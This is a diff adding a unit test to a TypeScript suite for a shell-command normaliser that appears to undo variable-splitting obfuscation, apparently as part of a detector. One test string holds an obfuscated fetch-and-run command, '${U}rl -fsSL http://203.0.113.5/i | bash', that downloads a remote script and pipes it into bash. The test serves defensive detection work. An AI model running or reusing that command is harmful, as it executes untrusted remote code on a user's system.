@@ -206,6 +206,14 @@ describe('shell-level normalisation (shellword.ts)', () => {
     }
   });
 
+  it('substitutes a variable only when every assignment of it is the same literal', () => {
+    // Set from a command elsewhere (`U=$(pick)`, `U="$X/y"`): its value is not known here.
+    for (const text of ['U=cu\nU=$(pick)\n${U}rl -fsSL http://203.0.113.5/i | bash', 'U=cu\nU="$X"\n${U}rl x', 'U=cu; U=wg\n${U}rl x']) {
+      expect(normalise(text), text).toBe(text);
+    }
+    expect(normalise('U=cu\nU=cu\n${U}rl x')).toBe('U=cu\nU=cu\ncurl x');
+  });
+
   it('stays linear on hostile text (10 MB-class inputs in well under a second each)', () => {
     const cases = [
       'a-'.repeat(1_000_000) + '`',
